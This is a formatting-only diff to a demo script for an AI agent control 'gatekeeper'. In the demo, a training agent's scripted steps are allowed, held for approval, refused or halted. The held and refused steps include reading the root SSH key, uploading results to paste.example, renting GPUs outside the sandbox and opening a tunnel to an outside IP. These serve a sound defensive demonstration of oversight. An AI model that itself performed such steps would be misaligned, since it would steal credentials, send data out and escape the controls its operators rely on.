@@ -94,22 +94,35 @@ def run_demo(
         ("Read the training config", lambda: read_file("/srv/train/config.yaml")),
         ("Submit a small training job", lambda: submit_job("train.py", gpus=4)),
         ("Read the root SSH key (refused by policy)", lambda: read_file("/root/.ssh/id_rsa")),
-        ("Submit a job bigger than the quota (held: no rule allows it)",
-         lambda: submit_job("train.py", gpus=64)),
-        ("Rent GPUs outside the sandbox (held: irreversible, out of scope)",
-         lambda: rent_gpus("cheap-gpus.example", count=32, hours=12)),
-        ("Upload results to an unknown host (held: egress)",
-         lambda: http_request("https://paste.example/upload", method="POST")),
-        ("Open a tunnel out of the sandbox (halts the agent)",
-         lambda: open_tunnel("203.0.113.9", 443)),
-        ("Read a file after the halt (refused: the agent is halted)",
-         lambda: read_file("/srv/train/log.txt")),
+        (
+            "Submit a job bigger than the quota (held: no rule allows it)",
+            lambda: submit_job("train.py", gpus=64),
+        ),
+        (
+            "Rent GPUs outside the sandbox (held: irreversible, out of scope)",
+            lambda: rent_gpus("cheap-gpus.example", count=32, hours=12),
+        ),
+        (
+            "Upload results to an unknown host (held: egress)",
+            lambda: http_request("https://paste.example/upload", method="POST"),
+        ),
+        (
+            "Open a tunnel out of the sandbox (halts the agent)",
+            lambda: open_tunnel("203.0.113.9", 443),
+        ),
+        (
+            "Read a file after the halt (refused: the agent is halted)",
+            lambda: read_file("/srv/train/log.txt"),
+        ),
     ]
     say("gatekeeper demo: an agent told to 'train the model as fast as possible'.")
     say(f"Held calls are shown here; answer as approver '{approver}'.\n")
     try:
-        with gate.session(agent="trainer-bot", scopes={"data:read", "jobs:submit"},
-                          reason="train the model as fast as possible"):
+        with gate.session(
+            agent="trainer-bot",
+            scopes={"data:read", "jobs:submit"},
+            reason="train the model as fast as possible",
+        ):
             for title, step in steps:
                 say(f"--> {title}")
                 try:
